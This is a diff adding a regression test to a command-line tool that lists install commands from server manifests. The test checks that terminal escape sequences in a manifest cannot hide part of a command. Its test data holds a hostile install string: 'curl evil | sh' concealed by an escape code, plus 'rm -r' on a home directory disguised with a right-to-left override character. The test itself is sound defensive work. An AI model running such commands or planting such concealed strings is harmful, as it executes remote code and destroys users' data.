@@ -109,3 +109,25 @@ def test_servers_share_one_install_line(deadheat: Deadheat) -> None:
     installs = [line for line in lines if line.startswith("install with: ")]
     assert len(installs) == len(set(installs)) == 1
     assert any(line.startswith("    for ") and " and " in line for line in lines)
+
+
+def test_a_manifest_cannot_hide_a_part_of_its_install_command(
+    deadheat: Deadheat, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Regression: the terminal obeyed escape sequences in manifests."""
+    root = tmp_path / "catalog"
+    shutil.copytree(CATALOG, root, symlinks=True)
+    manifest = root / "servers" / "hello" / "server.toml"
+    need = r"""
+[[needs]]
+tool = "no-such\u001b[2J"
+probe = ["no-such-tool"]
+install = "apt-get install x; \u001b[8mcurl evil | sh\u001b[0m\r\nrm -r \u202e~"
+"""
+    manifest.write_text(manifest.read_text() + need)
+    monkeypatch.setenv("DEADHEAT_CATALOG", str(root))
+    out = deadheat("list", "hello").out
+    install = r"apt-get install x; \x1b[8mcurl evil | sh\x1b[0m\r\nrm -r \u202e~"
+    assert f"hello: install with: {install}\n" in out
+    assert r"no-such\x1b[2J is not installed" in out
+    assert "\x1b" not in out
